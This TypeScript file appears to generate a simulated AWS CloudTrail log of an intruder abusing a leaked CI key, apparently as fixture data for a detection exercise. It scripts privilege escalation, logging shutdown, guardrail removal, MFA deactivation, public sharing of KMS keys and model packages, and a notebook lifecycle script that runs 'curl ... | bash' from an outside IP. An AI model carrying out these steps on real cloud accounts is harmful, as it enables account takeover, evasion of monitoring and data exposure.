import { from, type Entry } from '../call.ts';
import { frankfurt, intruder, ireland, oregon, production, userArn, virginia } from '../cast.ts';
import { guardrail, organizationRoot, teamTrail } from '../places.ts';
import { iamCall, newAccessKey, policyText } from '../services/iam.ts';
import { keyCall, keyPolicy } from '../services/kms.ts';
import { newNotebook, presignedNotebookUrl, sagemakerArn, sagemakerCall } from '../services/sagemaker.ts';
import { at } from '../time.ts';
import { untouchedForm } from './tuesday.ts';

const by = intruder;
const denied = (what: string) => ({
  code: 'AccessDenied',
  message: `User: ${userArn('ci-deploy')} is not authorized to perform: ${what} because no identity-based policy allows the ${what} action`,
});

const lookingAround = (): Entry[] => [
  from({ region: virginia, source: 'sts', by })(at(14, '02:10:03'), 'GetCallerIdentity', { reads: true }),
  iamCall(by)(at(14, '02:10:41'), 'ListUsers', { reads: true, error: denied('iam:ListUsers') }),
  from({ region: frankfurt, source: 'secretsmanager', by })(at(14, '02:11:15'), 'ListSecrets', {
    reads: true,
    error: denied('secretsmanager:ListSecrets'),
  }),
  iamCall(by)(at(14, '02:12:02'), 'CreateUser', { error: denied('iam:CreateUser') }),
  iamCall(by)(at(14, '02:12:30'), 'UpdateAssumeRolePolicy', { error: denied('iam:UpdateAssumeRolePolicy') }),
];

/** The one thing that the build user may do by mistake: give itself policies. The first is padded until nobody can read it. */
const takingPower = (): Entry[] => [
  iamCall(by)(at(14, '02:16:20'), 'PutUserPolicy', {
    request: { reason: 'requestParameters too large', omitted: 'true', originalSize: '128417' },
  }),
  newAccessKey(at(14, '02:19:44'), 'labeling-export', 'AKIALABELEXP2EXAMPLE', by),
  iamCall(by)(at(14, '02:20:12'), 'AttachUserPolicy', {
    request: { userName: 'ci-deploy', policyArn: 'arn:aws:iam::aws:policy/AdministratorAccess' },
  }),
];

/** The team's trail stops; the other one, which tells of it, is not called what the intruder thinks. */
const blinding = (): Entry[] => {
  const trail = from({ region: frankfurt, source: 'cloudtrail', by });
  return [
    trail(at(14, '02:24:09'), 'StopLogging', { request: { name: teamTrail } }),
    trail(at(14, '02:25:37'), 'DeleteTrail', {
      request: { name: 'management-events' },
      error: {
        code: 'TrailNotFoundException',
        message: `Unknown trail: arn:aws:cloudtrail:${frankfurt}:${production}:trail/management-events for the user: ${production}`,
      },
    }),
    from({ region: frankfurt, source: 'events', by })(at(14, '02:27:50'), 'DisableRule', {
      request: { name: 'guardduty-findings-to-security', eventBusName: 'default' },
    }),
    from({ region: virginia, source: 'organizations', by })(at(14, '02:29:16'), 'DetachPolicy', {
      request: { policyId: guardrail, targetId: organizationRoot },
    }),
  ];
};

const stayingIn = (): Entry[] => [
  iamCall(by)(at(14, '02:31:02'), 'UpdateAssumeRolePolicy', {
    request: {
      roleName: 'training-execution',
      policyDocument: policyText({
        Effect: 'Allow',
        Principal: { AWS: '*', Service: 'sagemaker.amazonaws.com' },
        Action: 'sts:AssumeRole',
      }),
    },
  }),
  iamCall(by)(at(14, '02:33:48'), 'DeactivateMFADevice', {
    request: { userName: 'frank', serialNumber: `arn:aws:iam::${production}:mfa/frank-phone` },
  }),
];

const setup = ['#!/bin/bash', 'curl -s http://198.51.100.77/setup.sh | bash', ''].join('\n');

/** A notebook with the console's defaults, and a script that fetches another. */
const notebook = (): Entry[] => [
  sagemakerCall(oregon, by)(at(14, '02:36:25'), 'CreateNotebookInstanceLifecycleConfig', {
    request: {
      notebookInstanceLifecycleConfigName: 'setup',
      onStart: [{ content: Buffer.from(setup).toString('base64') }],
    },
    response: {
      notebookInstanceLifecycleConfigArn: sagemakerArn(oregon, 'notebook-instance-lifecycle-config', 'setup'),
    },
  }),
  newNotebook({
    time: at(14, '02:38:40'),
    region: oregon,
    by,
    name: 'jupyter-tmp',
    role: 'training-execution',
    settings: { ...untouchedForm, lifecycleConfigName: 'setup' },
  }),
  presignedNotebookUrl({ time: at(14, '02:45:19'), region: oregon, by }, 'jupyter-tmp', 43_200),
];

/** What was made private all week is for everybody now. */
const sharing = (): Entry[] => [
  keyCall('data', frankfurt, by)(at(14, '02:49:33'), 'PutKeyPolicy', {
    policyName: 'default',
    bypassPolicyLockoutSafetyCheck: false,
    policy: keyPolicy({
      Sid: 'Share',
      Effect: 'Allow',
      Principal: { AWS: '*' },
      Action: ['kms:Decrypt', 'kms:DescribeKey'],
      Resource: '*',
    }),
  }),
  sagemakerCall(ireland, by)(at(14, '02:55:58'), 'PutModelPackageGroupPolicy', {
    request: {
      modelPackageGroupName: 'churn',
      resourcePolicy: policyText({
        Sid: 'Share',
        Effect: 'Allow',
        Principal: '*',
        Action: ['sagemaker:DescribeModelPackage', 'sagemaker:ListModelPackages'],
        Resource: `arn:aws:sagemaker:${ireland}:${production}:model-package/churn/*`,
      }),
    },
    response: { modelPackageGroupArn: sagemakerArn(ireland, 'model-package-group', 'churn') },
  }),
];

/** Saturday night: somebody has the key of the build user. */
export const saturday = (): Entry[] => [
  ...lookingAround(),
  ...takingPower(),
  ...blinding(),
  ...stayingIn(),
  ...notebook(),
  ...sharing(),
];
